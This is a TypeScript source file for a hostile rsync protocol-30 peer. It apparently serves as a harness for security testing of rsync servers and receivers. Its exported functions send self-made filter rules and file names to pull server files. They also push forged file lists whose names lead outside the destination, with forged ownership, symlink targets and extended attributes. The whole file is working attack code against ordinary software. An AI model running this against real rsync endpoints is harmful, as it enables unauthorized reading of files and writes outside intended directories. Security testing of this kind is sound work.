/**
 * A peer that speaks rsync's wire protocol (version 30) and says what rsync's own client never would: filter rules that
 * name files of the server, file lists with names that lead out, forged attributes. Written from the protocol's
 * behaviour; it knows as much of it as the attacks need.
 */
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { setTimeout as wait } from 'node:timers/promises';

/** One entry of a forged file list. */
export interface ForgedEntry {
  readonly name: string | Buffer;
  /** File type and permissions: 0o100644. */
  readonly mode: number;
  readonly content?: Buffer;
  /** Target, for a link. */
  readonly target?: string;
  readonly uid?: number;
  readonly gid?: number;
  readonly xattrs?: Readonly<Record<string, string>>;
}

export interface PeerOutcome {
  readonly exitCode: number;
  /** Messages of the server, as rsync sends them inside the protocol, and its stderr. */
  readonly messages: string;
  /** Everything else that came: data of files would be in it. */
  readonly data: Buffer;
}

const int32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeInt32LE(value | 0);
  return bytes;
};

/** rsync's variable-length integers: the leading ones of the first byte say how many bytes follow. */
function varlong(value: number, leastBytes: number): Buffer {
  const bytes: number[] = [];
  for (let rest = BigInt(value); bytes.length < 8; rest >>= 8n) bytes.push(Number(rest & 0xffn));
  let count = 8;
  while (count > leastBytes && bytes[count - 1] === 0) count -= 1;
  const bit = 1 << (7 - count + leastBytes);
  const top = bytes[count - 1] as number;
  if (top >= bit) return Buffer.from([~(bit - 1) & 0xff, ...bytes.slice(0, count)]);
  const lead = count > leastBytes ? top | (~(bit * 2 - 1) & 0xff) : top;
  return Buffer.from([lead, ...bytes.slice(0, count - 1)]);
}
const varint = (value: number) => varlong(value, 1);

/** One entry, with nothing taken over from the one before. */
function encodeEntry(entry: ForgedEntry): Buffer {
  const name = Buffer.from(entry.name);
  const longName = 0x40;
  const isLink = (entry.mode & 0o170000) === 0o120000;
  const isDirectory = (entry.mode & 0o170000) === 0o040000;
  const parts = [
    Buffer.from([longName]),
    varlong(name.length, 1),
    name,
    varlong(entry.content?.length ?? 0, 3),
    varlong(1_700_000_000, 4),
    int32(entry.mode),
    varint(entry.uid ?? 0),
    varint(entry.gid ?? 0),
  ];
  if (isLink) {
    const target = Buffer.from(entry.target ?? '');
    parts.push(varint(target.length), target);
  } else {
    // An access list without entries, and for a directory a default one.
    parts.push(varint(0), Buffer.from([0]));
    if (isDirectory) parts.push(varint(0), Buffer.from([0]));
  }
  const xattrs = Object.entries(entry.xattrs ?? {});
  parts.push(varint(0), varint(xattrs.length));
  for (const [key, value] of xattrs) {
    const keyBytes = Buffer.from(`${key}\0`);
    const valueBytes = Buffer.from(value);
    parts.push(varint(keyBytes.length), varint(valueBytes.length), keyBytes, valueBytes);
  }
  return Buffer.concat(parts);
}

/** Takes bytes as they come and gives them out in the sizes that are asked for. */
class Reader {
  #chunks: Buffer = Buffer.alloc(0);
  #ended = false;
  #wake: () => void = () => undefined;

  add(chunk: Buffer): void {
    this.#chunks = Buffer.concat([this.#chunks, chunk]);
    this.#wake();
  }
  end(): void {
    this.#ended = true;
    this.#wake();
  }
  async take(count: number): Promise<Buffer> {
    while (this.#chunks.length < count) {
      if (this.#ended) throw new EndOfStream();
      await new Promise<void>((resolve) => {
        this.#wake = resolve;
      });
    }
    const taken = this.#chunks.subarray(0, count);
    this.#chunks = this.#chunks.subarray(count);
    return taken;
  }
}
class EndOfStream extends Error {}

const transferFlag = 0x8000;
const basisFlag = 0x0800;
const nameFlag = 0x1000;
const xattrFlag = 0x0100;

interface Session {
  readonly write: (data: Buffer) => void;
  /** Past the multiplexing, as the names of --files-from travel. */
  readonly writeRaw: (data: Buffer) => void;
  /** Data of the server, out of its multiplexed stream. */
  readonly data: Reader;
}

/**
 * Connects, greets, and hands over to the talk. The argv starts the server's side: ssh with a command.
 */
async function converse(argv: readonly string[], talk: (session: Session) => Promise<void>): Promise<PeerOutcome> {
  const [program = '', ...args] = argv;
  const child = spawn(program, args, { stdio: ['pipe', 'pipe', 'pipe'] });
  const closed = once(child, 'close');
  const raw = new Reader();
  const data = new Reader();
  const seen: Buffer[] = [];
  let messages = '';
  child.stdin.on('error', () => undefined);
  child.stdout.on('data', (chunk: Buffer) => raw.add(chunk));
  child.stdout.on('end', () => raw.end());
  child.stderr.on('data', (chunk: Buffer) => {
    messages += chunk.toString('latin1');
  });
  const timer = setTimeout(() => child.kill('SIGKILL'), 20_000);
  const demultiplex = async () => {
    for (;;) {
      const header = (await raw.take(4)).readUInt32LE();
      const body = await raw.take(header & 0xffffff);
      if (header >>> 24 === 7) {
        seen.push(Buffer.from(body));
        data.add(body);
      } else messages += body.toString('latin1');
    }
  };
  const swallowEnd = (error: unknown) => {
    if (!(error instanceof EndOfStream)) throw error;
  };
  try {
    child.stdin.write(int32(30));
    // Its version, its compatibility flags, its checksum seed.
    await raw.take(4 + 1 + 4);
    const reading = demultiplex()
      .catch(swallowEnd)
      .finally(() => data.end());
    const write = (bytes: Buffer) => {
      for (let at = 0; at < bytes.length; at += 65_536) {
        const part = bytes.subarray(at, at + 65_536);
        child.stdin.write(Buffer.concat([int32((7 << 24) | part.length), part]));
      }
    };
    await talk({ write, writeRaw: (bytes) => child.stdin.write(bytes), data });
    child.stdin.end();
    await reading;
  } catch (error) {
    swallowEnd(error);
  } finally {
    child.stdin.end();
  }
  await closed;
  clearTimeout(timer);
  return { exitCode: child.exitCode ?? 255, messages, data: Buffer.concat(seen) };
}

function filterList(rules: readonly string[]): Buffer {
  const list = rules.flatMap((rule) => [int32(Buffer.byteLength(rule)), Buffer.from(rule)]);
  return Buffer.concat([...list, int32(0)]);
}

/** Pulls with filter rules of its own making; the names go as --files-from=- wants them. */
export function pullWithRules(
  argv: readonly string[],
  rules: readonly string[],
  names: readonly string[],
): Promise<PeerOutcome> {
  return converse(argv, async ({ write, writeRaw, data }) => {
    write(filterList(rules));
    writeRaw(Buffer.concat([...names.map((name) => Buffer.from(`${name}\0`)), Buffer.from([0])]));
    // Whatever it sends is kept; nothing is asked for.
    await Promise.race([data.take(1 << 20), wait(800)]);
  });
}

/** rsync's order: by name, but in each directory the files before the directories. */
function asReceiver(one: ForgedEntry, other: ForgedEntry): number {
  const key = ({ name, mode }: ForgedEntry) => {
    const parts = Buffer.from(name).toString('latin1').split('/');
    const isDirectory = (mode & 0o170000) === 0o040000;
    return parts.map((part, at) => (at === parts.length - 1 && !isDirectory ? `0${part}` : `1${part}`));
  };
  if (one.name === '.') return -1;
  if (other.name === '.') return 1;
  const [left, right] = [key(one), key(other)];
  for (let at = 0; at < Math.min(left.length, right.length); at += 1) {
    if (left[at] !== right[at]) return (left[at] as string) < (right[at] as string) ? -1 : 1;
  }
  return left.length - right.length;
}

/** The times that the receiver says it is done with the files, in protocol 30; then comes its goodbye. */
const phases = 3;

/** Pushes a file list of its own making, and the contents that the receiver asks for. */
export function pushForged(
  argv: readonly string[],
  entries: readonly ForgedEntry[],
  options: { rules?: readonly string[] } = {},
): Promise<PeerOutcome> {
  return converse(argv, async ({ write, data }) => {
    if (options.rules !== undefined) write(filterList(options.rules));
    write(Buffer.concat([...entries.map(encodeEntry), Buffer.from([0])]));
    // The receiver sorts the list before it counts.
    const sorted = [...entries].sort(asReceiver);
    let last = -1;
    for (let dones = 0; dones <= phases; ) {
      const first = (await data.take(1)).readUInt8();
      if (first === 0) {
        dones += 1;
        // Each of the phases is answered; the goodbye after them is not, and rsync sometimes notices when it is.
        if (dones <= phases) write(Buffer.from([0]));
        continue;
      }
      if (first >= 0xfe) throw new Error('an index that this peer does not read');
      last += first;
      const flags = (await data.take(2)).readUInt16LE();
      const head: Buffer[] = [Buffer.from([first]), Buffer.from([flags & 0xff, flags >>> 8])];
      if (flags & basisFlag) head.push(await data.take(1));
      if (flags & nameFlag) {
        const length = await data.take(1);
        const size = length.readUInt8();
        head.push(length, size > 0x7f ? await data.take((size & 0x7f) * 256 + 1) : await data.take(size));
      }
      if (flags & xattrFlag) {
        await data.take(1);
        head.push(Buffer.from([0]));
      }
      if ((flags & transferFlag) === 0) {
        write(Buffer.concat(head));
        continue;
      }
      const sums = await data.take(16);
      await data.take(sums.readInt32LE(0) * (4 + sums.readInt32LE(8)));
      const content = sorted[last]?.content ?? Buffer.alloc(0);
      const token = content.length === 0 ? [] : [int32(content.length), content];
      write(Buffer.concat([...head, Buffer.alloc(16), ...token, int32(0), createHash('md5').update(content).digest()]));
    }
  });
}
